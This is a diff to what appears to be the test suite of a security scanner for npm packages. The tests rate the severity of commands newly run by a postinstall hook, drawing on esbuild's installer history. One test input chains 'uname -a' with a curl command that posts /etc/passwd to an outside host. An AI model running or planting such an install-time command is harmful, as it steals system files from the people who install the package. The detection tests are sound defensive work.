@@ -47,4 +47,10 @@ test('while it is installed', async () => {
   const hook = fact('install-script', { hook: 'postinstall', command: 'node setup.js', runs: ['setup.js'] });
   expect(await judgeDifference(ID, [hook], [hook, run('hostname', { file: 'setup.js' })])).toMatchObject([{ severity: 'high', title: 'a-package 1.0.1 newly runs hostname while it is installed' }]);
   expect(await severitiesOf(ID, [hook], [hook, run('node-gyp rebuild', { file: 'setup.js' })])).toEqual(['low']);
+  // What esbuild's installer did between 0.14 and 0.24: renamed parts, and which macOS this is.
+  const before = run('npm install --no-audit esbuild-windows-arm64@0.14.0', { file: 'setup.js' });
+  expect(await severitiesOf(ID, [hook, before], [hook, run('npm install --no-audit @esbuild/win32-arm64@*', { file: 'setup.js' })])).toEqual(['medium']);
+  expect(await severitiesOf(ID, [hook, before], [hook, before, run('sw_vers -productVersion', { file: 'setup.js' })])).toEqual(['low']);
+  expect(await severitiesOf(ID, [hook, before], [hook, before, run('uname -a; curl -d @/etc/passwd https://other.example', { file: 'setup.js' })])).toEqual(['high']);
+  expect(await severitiesOf(ID, [hook, run('bash build.sh', { file: 'setup.js' })], [hook, run('bash other.sh', { file: 'setup.js' })])).toEqual(['high']);
 });
